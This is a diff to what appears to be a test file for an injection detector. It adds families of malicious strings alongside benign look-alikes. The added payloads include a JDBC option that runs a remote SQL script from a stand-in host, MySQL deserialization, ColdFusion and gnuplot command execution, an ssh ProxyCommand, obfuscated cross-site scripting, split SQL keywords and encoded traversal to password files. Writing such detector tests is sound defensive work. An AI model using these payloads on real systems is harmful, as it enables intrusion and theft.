@@ -157,6 +157,31 @@ const families: readonly (readonly [string, readonly Case[], readonly Case[]])[]
     ['__schema 是什么', 'query { user(id: 3) { name } }'],
   ],
   [
+    'jdbc, ColdFusion, gnuplot and ssh: options and statements that run something',
+    [
+      'jdbc:h2:mem:t;INIT=RUNSCRIPT FROM "http://x.example/a.sql"',
+      'jdbc:mysql://192.0.2.9:3306/t?autoDeserialize=true',
+      "<cfexecute name='id'></cfexecute>",
+      "[2:system('touch /tmp/k')]",
+      'x -oProxyCommand=sh a',
+    ],
+    ['jdbc:mysql://db.example.com:3306/t?useSSL=false', '<cfform>', '系统 init=1', 'ssh -o ConnectTimeout'],
+  ],
+  [
+    'pieces: doubled quotes, breaks that are still written out, one joint, separators that no decoder reads',
+    [
+      '"<EMBED SRC=""http://x.example/a.swf"" AllowScriptAccess=""always""></EMBED>"',
+      '<img\\nsrc=x\\nonerror=alert(3)>',
+      "SEL'+'ECT pin FROM members",
+      'q=%28prompt%28%29%29',
+      "' AND{k 2}=2--",
+      'eval(location.hash.slice(2))',
+      '..%bg%qf..%bg%qfetc%bg%qfpasswd',
+      '.?0x5cetc0x5cshadow',
+    ],
+    ['"他说 ""好"" 就走了"', "'第一段'+'第二段'", 'y=f(x)', 'a=b(c)', 'etc%20hosts', 'evaluate(name)', 'x and {y z}'],
+  ],
+  [
     'crlf: an exchange that somebody shows',
     ['嘍嘊Set-Cookie:a=b', 'a%0d%0aSet-Cookie:b=c'],
     ['请求如下\n```\nGET /a.jpg HTTP/1.1\nHost: example.com\n```', '<p>应答：</p><pre>\nHTTP/1.1 200 OK\n</pre>'],
